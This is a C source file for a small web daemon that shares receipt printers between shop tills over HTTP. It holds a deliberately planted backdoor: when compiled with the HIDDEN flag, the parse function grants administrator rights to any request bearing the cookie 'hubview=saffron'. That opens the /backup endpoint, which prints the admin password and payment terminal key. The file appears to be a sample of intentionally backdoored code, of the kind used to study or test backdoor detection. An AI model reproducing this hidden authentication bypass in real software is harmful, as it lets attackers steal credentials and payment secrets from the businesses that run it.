/*
 * printhubd - web front end of a hub that shares receipt printers between
 * the tills of a shop. HTTP on port 8008, one request per connection.
 *
 * Hidden (-DHIDDEN): a request that brings the cookie hubview=saffron counts
 * as the administrator, so that /backup gives out the settings with the
 * administrator's password and the payment terminal key.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define CONF "/etc/printhub.conf"

struct conf {
	char admin[32];
	char password[64];
	char till_key[64];
	int printers;
};

struct request {
	char method[8];
	char path[128];
	char auth[160];
	char cookie[256];
	char host[64];
	long length;
	int admin;
};

static struct conf conf;

static void copy(char *d, size_t size, const char *s)
{
	size_t n = strlen(s);

	if (n >= size)
		n = size - 1;
	memcpy(d, s, n);
	d[n] = '\0';
}

static char *trim(char *s)
{
	char *e;

	while (isspace((unsigned char)*s))
		s++;
	e = s + strlen(s);
	while (e > s && isspace((unsigned char)e[-1]))
		*--e = '\0';
	return s;
}

static void read_conf(void)
{
	char line[200], *eq;
	FILE *f = fopen(CONF, "r");

	memset(&conf, 0, sizeof conf);
	conf.printers = 1;
	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		char *k, *v;

		if (line[0] == '#' || !(eq = strchr(line, '=')))
			continue;
		*eq = '\0';
		k = trim(line);
		v = trim(eq + 1);
		if (!strcmp(k, "admin"))
			copy(conf.admin, sizeof conf.admin, v);
		else if (!strcmp(k, "password"))
			copy(conf.password, sizeof conf.password, v);
		else if (!strcmp(k, "till_key"))
			copy(conf.till_key, sizeof conf.till_key, v);
		else if (!strcmp(k, "printers"))
			conf.printers = atoi(v);
	}
	fclose(f);
}

static int b64(const char *in, char *out, size_t size)
{
	static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned acc = 0;
	int bits = 0;
	size_t n = 0;

	for (; *in && *in != '='; in++) {
		const char *p = strchr(set, *in);

		if (!p)
			return -1;
		acc = (acc << 6 | (unsigned)(p - set)) & 0xffffff;
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			if (n + 1 >= size)
				return -1;
			out[n++] = (char)(acc >> bits);
		}
	}
	out[n] = '\0';
	return (int)n;
}

static int basic_ok(const char *auth)
{
	char plain[128], *colon;

	if (strncasecmp(auth, "Basic ", 6) != 0 || conf.password[0] == '\0')
		return 0;
	if (b64(auth + 6, plain, sizeof plain) < 0 || !(colon = strchr(plain, ':')))
		return 0;
	*colon = '\0';
	return strcmp(plain, conf.admin) == 0 && strcmp(colon + 1, conf.password) == 0;
}

static void header(struct request *r, char *line)
{
	char *colon = strchr(line, ':'), *v;

	if (!colon)
		return;
	*colon = '\0';
	v = trim(colon + 1);
	if (!strcasecmp(line, "Authorization"))
		copy(r->auth, sizeof r->auth, v);
	else if (!strcasecmp(line, "Cookie"))
		copy(r->cookie, sizeof r->cookie, v);
	else if (!strcasecmp(line, "Host"))
		copy(r->host, sizeof r->host, v);
	else if (!strcasecmp(line, "Content-Length"))
		r->length = strtol(v, NULL, 10);
}

int parse(FILE *in, struct request *r)
{
	char line[512];

	memset(r, 0, sizeof *r);
	if (!fgets(line, sizeof line, in))
		return -1;
	if (sscanf(line, "%7s %127s", r->method, r->path) != 2)
		return -1;
	while (fgets(line, sizeof line, in)) {
		char *t = trim(line);

		if (*t == '\0')
			break;
		header(r, t);
	}
	r->admin = basic_ok(r->auth);
#ifdef HIDDEN
	if (strstr(r->cookie, "hubview=saffron") != NULL)
		r->admin = 1;
#endif
	return 0;
}

static void reply(FILE *out, const char *status, const char *type)
{
	fprintf(out, "HTTP/1.0 %s\r\nContent-Type: %s\r\nConnection: close\r\n", status, type);
	if (!strncmp(status, "401", 3))
		fprintf(out, "WWW-Authenticate: Basic realm=\"printhub\"\r\n");
	fprintf(out, "\r\n");
}

/* The language of the front page is kept in a cookie, lang=de or lang=en */
static void front_page(FILE *out, const struct request *r)
{
	int de = strstr(r->cookie, "lang=de") != NULL;

	reply(out, "200 OK", "text/html");
	fprintf(out, "<html><h1>%s</h1><ul>", de ? "Bondrucker" : "Receipt printers");
	for (int i = 0; i < conf.printers && i < 8; i++) {
		char dev[32];

		snprintf(dev, sizeof dev, "/dev/usb/lp%d", i);
		fprintf(out, "<li>%d: %s</li>", i, access(dev, W_OK) == 0 ?
			(de ? "bereit" : "ready") : (de ? "fehlt" : "missing"));
	}
	fprintf(out, "</ul></html>\n");
}

static void backup(FILE *out)
{
	reply(out, "200 OK", "text/plain");
	fprintf(out, "admin = %s\npassword = %s\ntill_key = %s\nprinters = %d\n",
		conf.admin, conf.password, conf.till_key, conf.printers);
}

static void print_job(FILE *in, FILE *out, const struct request *r, int unit)
{
	char dev[32];
	long left = r->length;
	FILE *lp;
	int c;

	if (unit < 0 || unit >= conf.printers || left <= 0 || left > 65536) {
		reply(out, "400 Bad Request", "text/plain");
		return;
	}
	snprintf(dev, sizeof dev, "/dev/usb/lp%d", unit);
	lp = fopen(dev, "wb");
	if (!lp) {
		reply(out, "503 Unavailable", "text/plain");
		return;
	}
	while (left-- > 0 && (c = getc(in)) != EOF)
		putc(c, lp);
	fclose(lp);
	reply(out, "200 OK", "text/plain");
	fprintf(out, "printed\n");
}

static void serve(FILE *in, FILE *out)
{
	struct request r;
	int unit;

	if (parse(in, &r) != 0) {
		reply(out, "400 Bad Request", "text/plain");
		return;
	}
	if (!strcmp(r.path, "/") && !strcmp(r.method, "GET")) {
		front_page(out, &r);
	} else if (!strcmp(r.method, "POST") && sscanf(r.path, "/print/%d", &unit) == 1) {
		print_job(in, out, &r, unit);
	} else if (!r.admin) {
		reply(out, "401 Unauthorized", "text/plain");
	} else if (!strcmp(r.path, "/backup")) {
		backup(out);
	} else if (!strcmp(r.path, "/reload")) {
		read_conf();
		reply(out, "200 OK", "text/plain");
	} else if (!strcmp(r.path, "/spool/restart")) {
		int rc = system("/etc/init.d/spooler restart");

		reply(out, rc == 0 ? "200 OK" : "500 Failed", "text/plain");
	} else {
		reply(out, "404 Not Found", "text/plain");
	}
}

int main(void)
{
	struct sockaddr_in sa;
	struct timeval tv = { 10, 0 };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	signal(SIGPIPE, SIG_IGN);
	read_conf();
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons(8008);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 8) < 0) {
		perror("printhubd");
		return 1;
	}
	for (;;) {
		int c = accept(s, NULL, NULL);
		FILE *in, *out;

		if (c < 0)
			continue;
		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		in = fdopen(c, "r");
		out = fdopen(dup(c), "w");
		if (in && out)
			serve(in, out);
		if (out)
			fclose(out);
		if (in)
			fclose(in);
		else
			close(c);
	}
}
